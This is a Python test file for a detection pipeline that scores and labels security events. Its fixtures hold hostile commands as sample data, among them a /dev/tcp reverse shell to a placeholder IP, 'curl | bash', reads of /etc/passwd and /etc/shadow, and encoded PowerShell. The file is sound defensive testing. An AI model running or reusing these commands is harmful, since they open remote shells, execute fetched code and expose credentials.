"""Scores, labels and seeds of single events."""

import pytest
from pyspark.sql import functions as F

from emberwatch.operators import labels as L
from emberwatch.operators import scoring as S

T0 = "2026-01-15T11:12:45.518473Z"


def ev(**kw):
    base = {"@timestamp": T0, "event": {"id": "e", "severity": 1, "category": "process"}, "host": {"name": "h"}}
    for k, v in kw.items():
        base[k] = {**base.get(k, {}), **v} if isinstance(v, dict) else v
    return base


SCORES = [
    (ev(process={"name": "bash", "command_line": "bash -i >& /dev/tcp/1.2.3.4/99"}), 85, "Heuristic: Reverse Shell Pattern"),
    (ev(process={"name": "ncat"}), 70, "Heuristic: Dangerous Tool (ncat)"),
    (ev(process={"name": "wget"}), 60, "Heuristic: Suspicious Tool (wget)"),
    (ev(process={"name": "python3"}, user={"name": "www-data"}), 75, "Heuristic: Low-Priv User Web Request"),
    (ev(file={"path": "/var/www/html/a.php"}), 90, "Heuristic: WebShell Write"),
    (ev(process={"command_line": "vi /var/www/html/a.php"}), 90, "Heuristic: WebShell Pattern"),
    (ev(file={"path": "/etc/shadow"}), 70, "Heuristic: Sensitive/Persistence File Access"),
    (ev(file={"path": "/etc/cron.d/x"}), 70, "Heuristic: Persistence Mechanism Modification"),
    (ev(event={"dataset": "windows"}, process={"name": "powershell.exe", "command_line": "powershell -enc AA"}), 70, "Heuristic: PowerShell Encoded Command"),
    (ev(event={"dataset": "windows"}, process={"name": "certutil.exe", "command_line": "certutil -urlcache -f x"}), 65, "Heuristic: Certutil Download (LotL)"),
    (ev(event={"category": "memory"}, memory={"anomalies": [{"type": "MEMFD_EXEC", "risk_level": "CRITICAL"}]}), 100, "MemDefense: Critical Anomaly (MEMFD_EXEC)"),
    (ev(event={"category": "memory"}, memory={"anomalies": [{"type": "RWX_REGION", "risk_level": "HIGH"}]}), 90, "MemDefense: High Risk Anomaly (RWX_REGION)"),
    (ev(detection={"severity": "high"}), 80, "Sigma Rule: HIGH"),
    (ev(event={"severity": 9}), 90, "Agent Reported Severity: 9"),
    (ev(event={"category": "authentication", "outcome": "failure"}), 40, "Authentication: Login Failure"),
    (ev(event={"category": "authentication", "outcome": "success"}, user={"name": "root"}, source={"ip": "9.9.9.9"}), 60, "Authentication: Root Remote Login from 9.9.9.9"),
    (ev(event={"dataset": "cowrie", "action": "input"}), 75, "HIGH: Honeypot Command Execution"),
    (ev(event={"dataset": "cowrie", "action": "connect"}), 25, "LOW: Honeypot Interaction"),
]


def test_scores(events):
    got = S.with_threat(events(*[d for d, _, _ in SCORES])).orderBy("seq").select("score", "reasons", "is_threat").collect()
    for (doc, score, reason), row in zip(SCORES, got):
        assert row.score == score and reason in row.reasons, (doc, row)
        assert row.is_threat == (score >= 50)


def test_default_severity_is_five(events):
    row = S.with_threat(events({"@timestamp": T0, "event": {"category": "process"}})).first()
    assert row.score == 50 and row.severity == "medium"


LABELS = [
    (ev(process={"executable": "/usr/bin/nmap"}), "NETWORK_SCANNER"),
    (ev(process={"command_line": "curl http://x | bash", "executable": "/usr/bin/curl"}), "DOWNLOAD_AND_EXECUTE"),
    (ev(process={"command_line": "cat /etc/passwd"}), "SENSITIVE_FILE"),
    (ev(event={"category": "file", "action": "create"}, file={"path": "/var/www/html/x.php", "extension": "php"}), "PHP_SCRIPT"),
    (ev(event={"category": "file", "action": "read"}, file={"path": "/var/www/html/x.php", "extension": "php"}), "WEB_ROOT_ACCESS"),
    (ev(event={"category": "file"}, file={"path": "/var/tmp/x"}), "TEMP_FILE_ACCESS"),
    (ev(event={"category": "file"}, file={"path": "/home/a/.ssh/id"}), "SSH_RELATED"),
    (ev(event={"category": "network"}, network={"direction": "EGRESS", "protocol": "dns"}), "NETWORK_Outbound"),
    (ev(event={"category": "network"}, network={"protocol": "DNS"}), "DNS_QUERY"),
    (ev(event={"category": "network"}, process={"name": "nginx"}), "NETWORK_Inbound"),
    (ev(process={"name": "sudo"}), "PRIVILEGE_ESCALATION"),
    (ev(event={"category": "authentication", "action": "login"}), "AUTHENTICATION_LOGIN"),
    ({"@timestamp": T0}, "UNKNOWN"),
    (ev(event={"category": "memory"}), "MEMORY_ANOMALY"),
    (ev(event={"category": "memory"}, memory={"anomalies": [{"type": "odd", "risk_level": "LOW"}, {"type": "odd", "risk_level": "HIGH"}]}), "HIGH_RISK_MEMORY_ANOMALY"),
    (ev(event={"category": "memory"}, memory={"anomalies": [{"type": "RWX_REGION", "risk_level": "HIGH"}, {"type": "MEMFD_EXEC", "risk_level": "CRITICAL"}]}), "FILELESS_ATTACK"),
]


def test_labels(events):
    got = L.with_labels(events(*[d for d, _ in LABELS])).orderBy("seq").select("label").collect()
    assert [r.label for r in got] == [lab for _, lab in LABELS]


def test_all_labels_and_signature(events):
    df = events(ev(process={"executable": "/usr/bin/curl", "command_line": "curl x | bash", "name": "curl"}), ev(process={"executable": "/usr/bin/nmap"}))
    assert df.select(L.all_labels().alias("l")).first().l == ["SUSPICIOUS_DOWNLOADER", "DOWNLOAD_AND_EXECUTE", "NETWORK_Outbound"]
    sig = L.path_signature(L.with_labels(df), ["case_id"]).first()
    assert sig.signature == "DOWNLOAD_AND_EXECUTE -> NETWORK_SCANNER"


def test_fingerprint_keeps_order(spark):
    import hashlib
    df = spark.createDataFrame([(["A", "B"],), (["B", "A"],)], "s array<string>").select(L.fingerprint(F.col("s")).alias("f"))
    a, b = [r.f for r in df.collect()]
    assert a == hashlib.sha256(b"A->B").hexdigest() and a != b


@pytest.mark.parametrize("reasons,tactic", [
    (["Authentication: Login Failure"], "Credential Access"), (["Heuristic: WebShell Write"], "Persistence"),
    (["Heuristic: Reverse Shell Pattern"], "Execution"), (["LOW: Honeypot Interaction"], "Collection"), (["Sigma Rule: LOW"], "Initial Access")])
def test_tactic_backfill(spark, reasons, tactic):
    df = spark.createDataFrame([(reasons,)], "r array<string>")
    assert df.select(S.tactic_from_reasons(F.col("r")).alias("t")).first().t == tactic


def test_seeds_keep_honeypot_and_set_confidence(events):
    df = events(ev(event={"dataset": "cowrie", "action": "connect"}), ev(), ev(event={"severity": 7}))
    rows = {r.seq: r for r in S.seeds(df).collect()}
    assert set(rows) == {0, 2}
    assert rows[0].threat.confidence == 0.25 and rows[2].threat.confidence == 0.7
